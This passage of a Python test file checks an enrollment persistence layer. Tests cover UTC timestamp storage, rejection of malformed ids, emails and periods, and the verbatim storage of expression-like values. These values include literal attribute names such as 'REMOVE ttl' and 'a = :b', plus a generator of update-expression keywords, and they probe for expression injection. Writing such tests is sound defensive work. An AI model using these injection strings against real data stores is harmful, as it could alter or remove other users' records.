    assert items["metadata#tenant"]["name"] == value
    assert items["metadata#tenant"]["tenant_id"] == f"ORG#{tenant.id}"
    assert items["schedules#course_expired"]["name"] == value
    assert items["schedules#course_expired"]["course"] == value
    cancel(
        enrollment.id, author=author, persistence_layer=persistence, tenant_id=tenant.id, now=NOW
    )
    canceled = persistence.get_item(KeyPair(pk=enrollment.id, sk="canceled_date"))
    assert canceled is not None
    assert canceled["author"] == {"id": author.id, "name": value}
    STATS["hostile.expression_like_values_stored"] += 1


@pytest.mark.parametrize("value", EXPRESSION_LIKE, ids=repr)
def test_expression_like_values_are_stored_verbatim(
    persistence: BasePersistence, value: str
) -> None:
    id_value = value if "#" not in value else value.replace("#", "")
    _enroll_verbatim(persistence, value, id_value.replace(" ", "") or "x")


@pytest.mark.parametrize("value", EXPRESSION_LIKE, ids=repr)
def test_an_expression_like_value_in_a_condition_is_compared_not_parsed(
    store: BasePersistence, value: str
) -> None:
    """A condition's value travels as a placeholder: ``status = "<value>"`` is false for a
    PENDING enrollment, whatever ``value`` says, and the update does not happen."""
    refused(store, lambda: _update_if(store, "existing", value), TransactionCanceled)
    # And a value equal to the stored one is true, however it looks.
    store.put_item({"id": "odd", "sk": "0", "status": value})
    _update_if(store, "odd", value)
    stored = store.get_item(KeyPair(pk="odd", sk="0"))
    assert stored == {"id": "odd", "sk": "0", "status": value, "note": value}


def _update_if(store: BasePersistence, pk: str, status: str) -> None:
    """Set ``note`` to ``status`` on ``pk``/0 if its status equals ``status``."""
    with store.transact_writer() as transaction:
        transaction.update(
            key=KeyPair(pk=pk, sk="0"), set={"note": status}, cond=Attr("status").eq(status)
        )


def test_expression_like_attribute_names_are_stored_verbatim(store: BasePersistence) -> None:
    names = {":v0": 1, "#n0": 2, "a = :b": 3, "REMOVE ttl": 4, "size(id)": 5}
    with store.transact_writer() as transaction:
        transaction.update(key=KeyPair(pk="odd", sk="0"), set=names)
    assert store.get_item(KeyPair(pk="odd", sk="0")) == {"id": "odd", "sk": "0", **names}


# -- aware datetimes in any zone are the same instant, stored in UTC ----------------------------

ZONES = [
    timezone(timedelta(hours=-3)),
    timezone(timedelta(hours=5, minutes=30)),
    timezone(timedelta(hours=14)),
    timezone(timedelta(hours=-12)),
]


@pytest.mark.parametrize("zone", ZONES, ids=str)
def test_an_aware_non_utc_now_is_stored_as_the_utc_instant(
    persistence: BasePersistence, zone: timezone
) -> None:
    local = NOW.astimezone(zone)
    assert local.utcoffset() != timedelta(0)
    for enrollment_id, now in (("in-utc", NOW), ("in-zone", local)):
        enroll(
            Enrollment(id=enrollment_id, user=make_user(enrollment_id), course=COURSE),
            tenant=TENANT,
            persistence_layer=persistence,
            deduplication_window=DeduplicationWindow(offset_days=2),
            cancel_policy=CancelPolicy(days=3),
            now=now,
        )
    utc_items = {i["sk"]: i for i in persistence.query("in-utc")}
    zone_items = {i["sk"]: i for i in persistence.query("in-zone")}
    assert utc_items.keys() == zone_items.keys()
    for sk, item in zone_items.items():
        expected = {**utc_items[sk], "id": "in-zone"}
        if sk == "0":
            expected["user"] = item["user"]
            expected["metadata__related_ids"] = item["metadata__related_ids"]
            # The listing keys name the user and the id; the instant in them is the same.
            for name in ("index__user", "index__user_status"):
                expected[name] = item[name]
            expected["index__created"] = utc_items[sk]["index__created"].replace(
                "#in-utc", "#in-zone"
            )
        if sk == "metadata#lock":
            expected["hash"] = item["hash"]
        if sk.startswith("schedules#"):
            expected["name"], expected["email"] = item["name"], item["email"]
            # The index shard follows the enrollment id; its UTC day follows the instant.
            day, _, _ = utc_items[sk]["due_shard"].partition("#")
            assert item["due_shard"].startswith(f"{day}#"), sk
            expected["due_shard"] = item["due_shard"]
        assert item == expected, sk
    assert zone_items["0"]["create_date"] == NOW.isoformat()
    assert zone_items["0"]["create_date"].endswith("+00:00")

    cancel("in-zone", author=AUTHOR, persistence_layer=persistence, now=local)
    canceled = persistence.get_item(KeyPair(pk="in-zone", sk="canceled_date"))
    assert canceled is not None and canceled["create_date"] == NOW.isoformat()


# -- hypothesis: generated hostile values ----------------------------------------------------------

CONTROL = st.characters(codec="utf-8", categories=["Cc"])
TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=20)
bad_ids = st.one_of(
    st.just(""),
    st.builds(lambda a, b: f"{a}#{b}", TEXT, TEXT),
    st.builds(lambda a, c, b: f"{a}{c}{b}", TEXT, CONTROL, TEXT),
    st.integers(min_value=257, max_value=2_000).map(lambda n: "i" * n),
)
bad_emails = st.one_of(
    TEXT.filter(lambda s: "@" not in s),
    st.builds(lambda a, b: f"{a}@{b}", TEXT, TEXT.filter(lambda s: "." not in s)),
    st.builds(lambda a, b: f"{a} x@{b}.com", TEXT, TEXT),
    st.builds(lambda a, c: f"a{c}@example.com", TEXT, CONTROL),
)
naive_datetimes = st.datetimes()  # naive unless told otherwise
bad_access_periods = st.one_of(
    st.integers(max_value=0),
    st.integers(min_value=36_501),
    st.floats(allow_nan=True),
    TEXT,
    st.booleans(),
)
expression_like = st.text(
    st.sampled_from(list(":#()=<>!, ANDORNOTSETREMOVEattribute_exists_sizev0123")), min_size=1
).filter(lambda s: s.strip() != "")

MEMORY_OR_MOTO = settings(
    max_examples=60,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    deadline=None,
)


def _examples(persistence: BasePersistence, memory: int) -> settings:
    count = memory if not isinstance(persistence, DynamoDBPersistence) else max(10, memory // 6)
    return settings(MEMORY_OR_MOTO, max_examples=count)


def test_generated_bad_ids_are_refused_everywhere(store: BasePersistence) -> None:
    before = snapshot(store)

    @_examples(store, 150)
    @given(bad=bad_ids)
    def check(bad: str) -> None:
        not_built(lambda: User(id=bad, name="Ana", email="ana@example.com"))
        not_built(lambda: Enrollment(id=bad, user=make_user(), course=COURSE))
        refused(store, lambda: cancel(bad, author=AUTHOR, persistence_layer=store), before=before)
        refused(
            store,
            lambda: add_vacancies(
                org_id=bad, order_id="order-1", course=COURSE, quantity=1, persistence_layer=store
            ),
            before=before,
        )

    check()


def test_generated_bad_emails_names_and_periods_are_refused(store: BasePersistence) -> None:
    @_examples(store, 150)
    @given(email=bad_emails, period=bad_access_periods, name=st.integers(1_025, 20_000))
    def check(email: str, period: Any, name: int) -> None:
        not_built(lambda: User(id="u", name="Ana", email=email))
        not_built(lambda: Course(id="c", name="Course", access_period=period))
        not_built(lambda: Course(id="c", name="n" * name, access_period=30))

    check()


def test_generated_naive_datetimes_are_refused(store: BasePersistence) -> None:
    before = snapshot(store)

    @_examples(store, 100)
    @given(now=naive_datetimes)
    def check(now: datetime) -> None:
        refused(
            store,
            lambda: enroll(
                make_enrollment("user-9"), tenant=TENANT, persistence_layer=store, now=now
            ),
            before=before,
        )
        refused(
            store,
            lambda: cancel("existing", author=AUTHOR, persistence_layer=store, now=now),
            before=before,
        )

    check()


def test_generated_windows_not_shorter_than_the_access_period(store: BasePersistence) -> None:
    before = snapshot(store)

    @_examples(store, 100)
    @given(period=st.integers(1, 400), extra=st.integers(0, 36_000))
    def check(period: int, extra: int) -> None:
        window = DeduplicationWindow(offset_days=min(period + extra, 36_500))
        refused(
            store,
            lambda: enroll(
                Enrollment(user=make_user("user-9"), course=make_course("c9", period)),
                tenant=TENANT,
                persistence_layer=store,
                deduplication_window=window,
                now=NOW,
            ),
            before=before,
        )

    check()


def test_generated_expression_like_values_are_stored_verbatim(persistence: BasePersistence) -> None:
    @_examples(persistence, 60)
    @given(value=expression_like)
    def check(value: str) -> None:
        _enroll_verbatim(persistence, value, "x")

    check()
